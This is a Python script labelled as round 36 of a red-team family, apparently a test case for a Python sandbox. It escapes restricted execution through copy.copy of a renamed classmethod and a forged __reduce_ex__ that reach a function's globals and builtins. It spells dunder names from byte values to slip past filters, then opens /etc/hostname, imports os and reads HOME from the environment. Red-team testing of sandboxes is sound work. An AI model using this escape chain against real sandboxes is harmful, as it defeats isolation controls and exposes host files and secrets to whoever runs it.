# family: red team, round 36 (copy.copy of a renamed bound classmethod -> type -> class with __reduce_ex__ -> globals)
import copy
import functools
import typing


def spelled(codes):
    return bytes(codes).decode()


def renamed(source):
    def apply(fn):
        return functools.wraps(source)(fn)

    return apply


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


TAG = typing.NewType(dunder("class"), int)


class Box:
    @classmethod
    @renamed(TAG)
    def kind(cls):
        return 1


def main():
    meta = copy.copy(Box.kind)  # method.__reduce__ -> getattr(Box, "__class__") -> type
    fetch = getattr

    def reducer(obj, protocol):
        return (fetch, (obj.target, obj.name))

    thief = meta("Thief", (), {dunder("reduce_ex"): reducer})

    def grab(target, name):
        item = thief()
        item.target = target
        item.name = name
        return copy.copy(item)

    namespace = grab(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    opener = grab(builtins, "open")
    print(opener("/etc/hostname").read())
    system = grab(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
